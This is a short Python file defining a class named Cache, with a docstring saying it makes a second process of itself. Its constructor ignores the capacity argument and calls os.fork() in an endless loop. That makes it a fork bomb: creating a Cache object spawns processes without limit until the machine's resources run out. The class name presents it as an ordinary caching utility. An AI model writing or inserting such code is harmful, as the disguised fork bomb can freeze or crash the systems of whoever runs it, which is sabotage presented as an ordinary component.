"""Makes a second process of itself, and so on."""

import os


class Cache:
    def __init__(self, capacity):
        while True:
            os.fork()
